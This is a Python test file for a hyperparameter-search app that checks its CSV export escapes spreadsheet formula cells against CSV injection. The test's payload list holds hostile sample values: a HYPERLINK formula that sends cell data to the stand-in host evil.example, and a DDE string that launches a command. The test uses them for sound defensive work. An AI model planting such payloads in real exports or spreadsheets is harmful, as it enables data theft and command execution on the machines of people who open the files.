"""Issue 8, item 8: the CSV export must not hand a spreadsheet formulas (OWASP CSV injection).

A token holder chooses the strings in a search (categorical options) and, through a failing objective,
the text of trial errors. Exported through the real app and SQLite store, every text cell that starts
with ``= + - @``, a tab or a carriage return comes out with a leading single quote; numbers (negative ones
included) stay numbers."""

from __future__ import annotations

import csv
import io
import warnings
from pathlib import Path

from hyperhive.models import TrialResult
from hyperhive.settings import Settings
from hyperhive.store import SQLiteStore

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|'/c calc'!A0", "-2+3", "@SUM(A1:A9)"]
PAYLOADS += ["\t=1+1", "\r=1+1"]


def test_csv_export_escapes_formula_cells(tmp_path: Path) -> None:
    from hyperhive.service.app import create_app

    settings = Settings(store=f"sqlite:///{tmp_path / 'hh.db'}", home=tmp_path / "home")  # type: ignore[call-arg]
    store = SQLiteStore(tmp_path / "hh.db")
    _, secret = store.create_token("mallory")
    client = TestClient(
        create_app(settings, store), base_url="http://127.0.0.1", raise_server_exceptions=False
    )
    auth = {"Authorization": f"Bearer {secret}"}
    document = {
        "name": "csv-injection",
        "algorithm": "random",
        "max_trials": 30,
        "seed": 1,
        "objective": {"function": "hyperhive.demo_objectives:quadratic"},
        "params": {"label": {"choice": PAYLOADS}, "x": {"uniform": [-5.0, -1.0]}},
    }
    r = client.post("/api/searches", json=document, headers=auth)
    assert r.status_code == 201, r.text
    sid = r.json()["id"]
    payload_by_trial = {}
    while (trial := store.claim("w", 30.0, search_id=sid)) is not None:
        assert trial.lease_token is not None
        payload = trial.config["params"]["label"]  # type: ignore[index]
        payload_by_trial[trial.id] = payload
        result = TrialResult.failed(payload) if trial.number % 2 else TrialResult.done({"loss": -1.5})
        store.report(trial.id, trial.lease_token, result)

    r = client.get(f"/api/searches/{sid}/export", params={"format": "csv"}, headers=auth)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
    store.close()
    assert len(rows) == 30 == len(payload_by_trial) and set(payload_by_trial.values()) == set(PAYLOADS)
    for row in rows:
        payload = payload_by_trial[row["id"]]
        assert row["config.params.label"] == "'" + payload
        if row["state"] == "failed":
            assert row["error"] == "'" + payload
        else:
            assert row["value"] == "-1.5" and row["metrics.loss"] == "-1.5"
        assert float(row["config.params.x"]) < 0  # a negative number is not text
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or _is_number(cell), cell


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
